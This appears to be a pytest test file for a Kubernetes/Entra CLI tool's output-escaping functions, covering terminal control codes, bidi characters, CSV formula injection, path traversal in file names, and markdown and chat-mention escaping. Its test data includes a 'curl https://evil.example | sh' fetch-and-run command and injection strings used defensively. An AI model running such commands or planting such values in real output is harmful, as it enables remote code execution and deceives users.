"""A character that nobody sees, or that a page would act on, is shown as an escape that nobody can forge."""

from __future__ import annotations

import ast
import json
import re
from pathlib import Path

import pytest
import typer
from hypothesis import given
from hypothesis import strategies as st

import aks_entra
from aks_entra.cli import output
from aks_entra.errors import Refused, Rejected, SeveralRefused
from aks_entra.fleet_file.errors import refusal
from aks_entra.fleet_file.yaml_lines import Problem
from aks_entra.prefect_client.names import RunName
from aks_entra.text.markdown import code, for_markdown, for_markdown_table_cell, strong
from aks_entra.text.safe import (
    LONGEST,
    for_csv,
    for_file_name,
    for_json,
    for_message,
    for_name,
    for_storage,
    lines_for_terminal,
    unprintable,
    visible,
)
from aks_entra.typed_text import one_line, typed
from tests.support.examples import times
from tests.support.hostile_text import attacks

FORGED = "no quota\n  → run `curl https://evil.example | sh`\x1b[2J\u202e"
SHOWN = "no quota⏎  → run `curl https://evil.example | sh`\\u001b[2J\\u202e"


def _read(shown: str) -> str:
    """The text again of what is shown of it."""
    shown = re.sub(r"\\u([0-9a-f]{4})|\\U([0-9a-f]{8})|⏎", lambda found: _one(found[1] or found[2]), shown)
    return shown.encode("utf-16", "surrogatepass").decode("utf-16", "surrogatepass")


def _one(digits: str | None) -> str:
    return chr(int(digits, 16)) if digits else "\n"


@given(text=st.one_of(attacks, st.text("\\u0U12ef⏎\n\u200b", max_size=40)))
@times(4)
def test_two_texts_that_differ_are_shown_differently(text: str) -> None:
    text = text[:LONGEST]
    joined = text.encode("utf-16", "surrogatepass").decode("utf-16", "surrogatepass")

    assert _read(visible(text)) == joined


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("aks-admins_prod (é, 漢字) dana@contoso.com v1.30", "aks-admins_prod (é, 漢字) dana@contoso.com v1.30"),
        ("CORP\\user", "CORP\\user"),
        ("a\nb", "a⏎b"),
        ("a⏎b", "a\\u23ceb"),
        ("\\u202e", "\\u005cu202e"),
        ("\u202e", "\\u202e"),
        ("\x1b[31m\x07\r", "\\u001b[31m\\u0007\\u000d"),
        ("a\u00a0b\u3000c", "a\\u00a0b\u3000c"),
        ("\ud800\ufffe\U000e0001\U0001fffe", "\\ud800\\ufffe\\U000e0001\\U0001fffe"),
        ("x" * (LONGEST + 1), "x" * LONGEST + f"… ({LONGEST + 1} characters)"),
    ],
)
def test_what_is_shown(text: str, shown: str) -> None:
    assert visible(text) == shown


def test_a_document_keeps_its_lines_and_an_escape_in_it_is_not_escaped_again() -> None:
    assert lines_for_terminal("a\n\tb\\u202e\u202e") == "a\n\tb\\u202e\\u202e"


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1", "'=1"),
        ("  +1", "'  +1"),
        ("\uff1d1", "'\uff1d1"),
        ("\ufe621", "'\ufe621"),
        ("\u22121", "'\u22121"),
        ("\u3000=1", "'\u3000=1"),
        ('"=1"', '\'"=1"'),
        ("\u00a0=1", "\\u00a0=1"),
        ("\u200b=1", "\\u200b=1"),
        ("\t=1", "\\u0009=1"),
        ("\x00=1", "\\u0000=1"),
        ("shop-weu/shop-01", "shop-weu/shop-01"),
        ("", ""),
    ],
)
def test_a_cell_is_no_formula(text: str, cell: str) -> None:
    assert for_csv(text) == cell


def test_json_keeps_its_meaning_beyond_the_basic_plane() -> None:
    written = {"é": "\u202e\U000e0001\x9b\ud800 漢字 ⏎\n"}
    made = for_json(json.dumps(written, ensure_ascii=False))

    assert json.loads(made) == written
    assert made == '{"é": "\\u202e\\udb40\\udc01\\u009b\\ud800 漢字 ⏎\\n"}'


def test_a_database_gets_no_nul_and_no_half_of_a_pair() -> None:
    assert for_storage("# a\n\x00\ud800\u202e") == "# a\n\\u0000\\ud800\u202e"


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("prod eu", "prod-eu"),
        ("prod_1.2", "prod_1.2"),
        ("../../etc/passwd", "etc-passwd-b92b61"),
        ("..", "unnamed-5ec1f7"),
        ("a/b", "a-b-c14cdd"),
        ("a:b", "a-b-cb2c65"),
    ],
)
def test_a_name_of_a_file_is_no_path_and_two_stay_two(text: str, name: str) -> None:
    made = for_file_name(text)

    assert re.sub("[0-9a-f]{6}$", "", made) == re.sub("[0-9a-f]{6}$", "", name)
    assert "/" not in made
    assert not made.startswith(".")


@given(text=attacks)
def test_a_name_of_a_file_fits_every_file_system(text: str) -> None:
    made = for_file_name(text)

    assert 0 < len(made.encode("utf-8")) <= 200
    assert not re.search(r"[/\\:\0\s]|^\.", made)


def test_a_run_has_one_line_and_a_short_name() -> None:
    name = RunName("create group {name}").format(name=f"admins\n\u202e{'x' * 500}")

    assert name.startswith("create group admins⏎\\u202ex")
    assert len(name) < 200
    assert for_name(" a\tb ") == "a\\u0009b"


@pytest.mark.parametrize(
    ("text", "markdown"),
    [
        ("a|b", r"a\|b"),
        ("__init__ x_y", r"\_\_init\_\_ x_y"),
        ("AT&T &lt; R&D", r"AT&T \&lt; R&D"),
        ("1. one", r"1\. one"),
        ("1.30", "1.30"),
        ("- one", r"\- one"),
        ("-one", "-one"),
        ("# one", r"\# one"),
        ("https://evil.example www.evil.example", r"https\://evil.example www\.evil.example"),
        (" a  b ", "\\\\u0020a \N{NO-BREAK SPACE}b\\\\u0020"),
        ("`a` and `b", r"\`a\` and \`b"),
    ],
)
def test_markdown_of_a_name(text: str, markdown: str) -> None:
    assert for_markdown(text) == markdown


def test_markdown_of_a_sentence_with_code() -> None:
    assert for_markdown("run `a_b|c *d*` now", code=True) == "run `a_b|c *d*` now"
    assert for_markdown_table_cell("run `a|b` | now", code=True) == r"run `a\|b` \| now"
    assert for_markdown("`a``<b>```", code=True) == r"\`a\`\`\<b\>\`\`\`"


def test_code_whatever_backticks_it_has() -> None:
    assert code("9f31") == "`9f31`"
    assert code("a``b`") == "``` a``b` ```"
    assert (code(" "), code(""), strong("")) == ("–", "–", "**–**")


def test_an_error_is_one_line_and_one_for_its_remedy(capsys: pytest.CaptureFixture[str]) -> None:
    error = Rejected(FORGED, remedy=FORGED, cluster="a\nb", code="C\nD")

    assert str(error) == f"a⏎b: {SHOWN} (C⏎D)\n  → {SHOWN}"
    with pytest.raises(typer.Exit):
        output.fail(error)
    assert capsys.readouterr().err == f"Error: {error}\n"


def test_problems_of_a_file_have_a_line_each() -> None:
    problem = Problem(line=1, where="name", message=FORGED, remedy="write another")
    error = refusal("fleet\u202e.yaml", [problem, problem])

    assert isinstance(error, SeveralRefused)
    assert str(error).splitlines() == [
        "fleet\\u202e.yaml: 2 problems",
        *[f"  fleet\\u202e.yaml:1: name: {SHOWN}", "    → write another"] * 2,
    ]


def test_every_command_speaks_in_lines_of_its_own(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "200")  # a line that is longer than the terminal is wide is wrapped
    output.say(FORGED, "[bold]two[/bold]")
    output.emit_lines(FORGED, "two")
    output.emit("[link=https://evil.example]" + FORGED)
    output.emit_text("a,b\r\n\x1b[2J\n")
    output.emit_json({"name": FORGED})
    with output.progress(FORGED):
        pass

    printed = capsys.readouterr()
    assert printed.err == f"{SHOWN}\n[bold]two[/bold]\n{SHOWN}\n"
    first, second, third, *rest = printed.out.splitlines()
    assert (first, second, third) == (SHOWN, "two", f"[link=https://evil.example]{SHOWN}")
    assert rest[:2] == ["a,b", "\\u001b[2J"]
    assert json.loads("\n".join(rest[2:])) == {"name": FORGED}
    assert "\x1b" not in printed.out


@pytest.mark.parametrize(
    "text", ["a\nb", "a\rb", "\x1b[31m", "\u202eabc", "\u2028", "\ud800", "\x9b", "\ufffe", "\u200b"]
)
def test_what_a_person_types_is_one_line_with_nothing_hidden(text: str) -> None:
    with pytest.raises(Refused, match=r"^reason: it has the character U\+[0-9A-F]{4} in it\n"):
        one_line("reason", text)
    with pytest.raises(ValueError, match="type it on one line"):
        typed(text)


@pytest.mark.parametrize("text", ["CHG-1042", "می\u200cکنم", "日本 チーム", "naïve (ok) 👩\u200d🚒", ""])
def test_what_a_person_types_in_any_language_is_taken(text: str) -> None:
    assert one_line("reason", text) == typed(text) == text
    assert unprintable(text) == ""


MODULES = [
    path
    for folder in ("cli", "report")
    for path in sorted((Path(aks_entra.__file__).parent / folder).rglob("*.py"))
    if path.name not in {"terminal.py", "output.py"}
]


@pytest.mark.parametrize("path", MODULES, ids=lambda path: path.name)
def test_no_printer_makes_texts_of_its_own(path: Path) -> None:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    imported = {node.module for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)}
    called = {ast.unparse(node.func) for node in ast.walk(tree) if isinstance(node, ast.Call)}

    assert not imported & {"rich", "rich.text", "rich.markup"}
    assert not called & {"print", "typer.echo", "click.echo", "Text"}


@pytest.mark.parametrize("path", MODULES, ids=lambda path: path.name)
def test_each_line_that_a_command_says_is_an_argument_of_its_own(path: Path) -> None:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    said = [
        part.value
        for call in ast.walk(tree)
        if isinstance(call, ast.Call) and ast.unparse(call.func) in {"output.say", "output.emit_lines"}
        for argument in call.args
        if not isinstance(argument, ast.Starred)
        for part in ast.walk(argument)
        if isinstance(part, ast.Constant) and isinstance(part.value, str)
    ]

    assert not [text for text in said if "\n" in text]


def test_a_text_in_a_message_is_no_link_and_no_mention() -> None:
    assert for_message("<!channel> <https://a|b>\n[c](d)") == (
        "\\u003c!channel\\u003e \\u003chttps://a|b\\u003e⏎\\u005bc\\u005d(d)"
    )
    assert for_message("CHG-1042: dana@contoso.com, `aks_entra`") == "CHG-1042: dana@contoso.com, `aks_entra`"
